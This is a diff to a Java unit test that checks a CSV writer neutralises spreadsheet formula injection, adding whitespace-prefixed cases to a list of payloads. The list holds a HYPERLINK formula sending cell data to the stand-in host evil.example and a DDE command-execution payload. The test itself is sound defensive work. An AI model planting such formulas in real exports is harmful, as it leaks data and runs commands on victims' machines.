@@ -28,7 +28,7 @@ class CsvTest {
 
     @ParameterizedTest(name = "C51 neutralised: {0}")
     @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A2,\"详情\")", "+cmd|' /C calc'!A0", "@SUM(1,1)",
-            "\tleading tab", "\rleading CR", "＝1+1", "＋1", "－1", "＠SUM(1)", "-2+3", "-A1", "=1", "-"})
+            "\tleading tab", "\rleading CR", "＝1+1", "＋1", "－1", "＠SUM(1)", "-2+3", "-A1", "=1", "-", "\u00a0=1+1", " =1+1", "\u3000@SUM(1)"})
     void c51FormulaStartsAreNeutralised(String value) {
         Csv.Cell c = Csv.text(value);
         assertEquals("'" + value, c.value());
